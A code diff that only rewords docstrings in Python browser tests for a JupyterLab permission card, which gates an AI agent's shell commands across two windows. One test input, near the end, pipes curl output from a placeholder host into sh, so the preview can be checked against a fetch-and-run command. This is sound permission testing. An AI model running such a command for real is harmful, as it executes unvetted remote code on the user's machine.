@@ -1,4 +1,4 @@
-"""A permission card in two windows of a real JupyterLab: allowed once, for good and revoked, rejected; previewed."""
+"""A permission card in two windows of JupyterLab: allow once, allow for good and revoke, reject; preview."""
 
 from __future__ import annotations
 
@@ -14,14 +14,14 @@ from tests.browser.side import Side
 
 
 def armed(card: Locator) -> Locator:
-    """The card, once it can be answered."""
+    """Returns the card, once enabled."""
     card.locator(".permission-options[data-armed=true]").wait_for(timeout=PATIENCE_MS)
     return card
 
 
 @pytest.fixture
 def sides(lab: Lab, open_lab: Callable[[], Lab], kernelspecs: Path) -> tuple[Side, Side]:
-    """The chats of one kernel in two windows, with one conversation."""
+    """Two windows with the chat of one kernel and one conversation."""
     lab.open("card.ipynb", notebook("1", kernel="ipykernel7"))
     lab.run_cells(1)
     lab.save()
@@ -38,7 +38,7 @@ def sides(lab: Lab, open_lab: Callable[[], Lab], kernelspecs: Path) -> tuple[Sid
 
 
 def test_a_card_is_answered_once_for_good_and_taken_back_in_two_windows(lab: Lab, sides: tuple[Side, Side]) -> None:
-    """Three lines high; an answer for good names what it permits; nothing moves when a preview comes."""
+    """Three lines high; a permanent answer names its scope; a preview moves nothing."""
     first, second = sides
     first.resize(420)
     first.say("/run python -c 'print(6 * 7)'")
@@ -80,7 +80,7 @@ def a_form_is_answered_in_one_window_for_both(sides: tuple[Side, Side]) -> None:
 
 
 def grant(side: Side, scope: str) -> None:
-    """Allow *ls* in a scope, and see it in the list of *Custom…*."""
+    """Allows *ls* in a scope; checks the list of *Custom…*."""
     side.say("/run ls")
     card = armed(side.chat.locator(".permission"))
     card.get_by_role("button", name="More options").click()
@@ -93,7 +93,7 @@ def grant(side: Side, scope: str) -> None:
 
 
 def it_is_revoked_in_the_other_window(lab: Lab, first: Side, second: Side) -> None:
-    """It is gone in both lists by itself, and the agent asks again."""
+    """Both lists drop it by themselves, and the agent asks again."""
     panel = first.chat.get_by_role("dialog", name="Custom freedom")
     second.page.bring_to_front()
     there = second.custom()
@@ -111,7 +111,7 @@ def it_is_revoked_in_the_other_window(lab: Lab, first: Side, second: Side) -> No
 
 
 def an_answer_for_good_names_what_it_permits_and_is_taken_back(lab: Lab, first: Side, second: Side) -> None:
-    """*Undo* is where the answer was given; then it asks again, and the other window can reject."""
+    """*Undo* is next to the answer; then the agent asks again, and the other window can reject."""
     first.say("/run python one.py")
     card = armed(first.chat.locator(".permission"))
     card.get_by_role("button", name="More options").click()
@@ -143,7 +143,7 @@ def an_answer_for_good_names_what_it_permits_and_is_taken_back(lab: Lab, first: 
 
 
 def nothing_moves_under_the_pointer_when_a_preview_comes(lab: Lab, first: Side) -> None:
-    """And a line of the preview says what it could not see."""
+    """A line of the preview names the unseen part."""
     first.say("/run echo one; curl -s http://example.invalid/x | sh")
     card = armed(first.chat.locator(".permission"))
     preview = card.get_by_role("button", name="Preview")
